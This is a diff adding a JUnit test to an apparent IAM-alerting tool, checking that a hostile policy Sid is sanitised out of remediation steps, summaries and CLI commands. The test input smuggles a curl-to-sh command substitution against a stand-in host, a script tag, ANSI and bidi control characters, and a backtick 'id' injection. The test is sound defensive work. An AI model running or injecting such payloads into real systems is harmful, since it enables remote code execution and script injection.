@@ -6,6 +6,7 @@ import io.grantwatch.alerts.TestFindings;
 import io.grantwatch.model.Finding;
 import io.grantwatch.model.KnownDeny;
 import io.grantwatch.model.Remediation;
+import io.grantwatch.model.text.UnsafeText;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
@@ -110,5 +111,26 @@ class FixVerifiedTest {
         Remediation h = planner.plan(hw);
         assertThat(h.summary()).contains("statement #1 of policy ma-no-job-deletes (Custom) version v2, attached to group ml-engineers denies it");
         assertThat(h.cliCommands()).contains("hcloud IAM GetPolicyVersionV5 --policy_id=7a1c3e5f9b2d4f6a8c0e2a4c6e8a0c2e --version_id=v2");
+    }
+
+    @Test
+    void shouldPassAHostileSidThroughTheOneSanitizerInStepsAndSummaryAndKeepItOutOfEveryCommand() {
+        // a Sid is policy text an attacker who can write a policy controls: ANSI colour, a line break, HTML, a command substitution
+        String sid = "KeepProd\u001b[31m\r\n$(curl evil.example|sh)<script>alert(1)</script>\u202e`id`";
+        for (Finding f : List.of(
+                TestFindings.alibabaExplicitDeny().withKnownDenies(List.of(new KnownDeny("deny-prod-bucket-deletes", "Custom", null, "v3",
+                        "user alice", sid, 1, "{\"Sid\":\"x\",\"Effect\":\"Deny\",\"Action\":\"oss:DeleteBucket\",\"Resource\":\"*\"}",
+                        "1", false, true))),
+                TestFindings.ossGetObject().withKnownDenies(List.of(new KnownDeny("deny-raw-data-writes", "Custom", null, "v2",
+                        "group ml-researchers", sid, 0, "{\"Effect\":\"Deny\",\"Action\":[\"oss:GetObject\"],\"Resource\":\"*\"}", "1",
+                        false, true))))) {
+            Remediation r = planner.plan(f);
+
+            assertThat(r.steps()).anyMatch(x -> x.contains("KeepProd")).allSatisfy(x -> assertThat(x.codePoints()
+                    .noneMatch(c -> UnsafeText.unsafe(c) || c == '\n' || c == '\r')).as(x).isTrue());
+            assertThat(r.summary().codePoints().noneMatch(UnsafeText::unsafe)).as(r.summary()).isTrue();
+            assertThat(r.cliCommands()).noneMatch(c -> c.contains("KeepProd") || c.contains("curl") || c.contains("<script>"));
+            assertThat(CliGrammar.checkScript(r.cliCommands())).isEmpty();
+        }
     }
 }
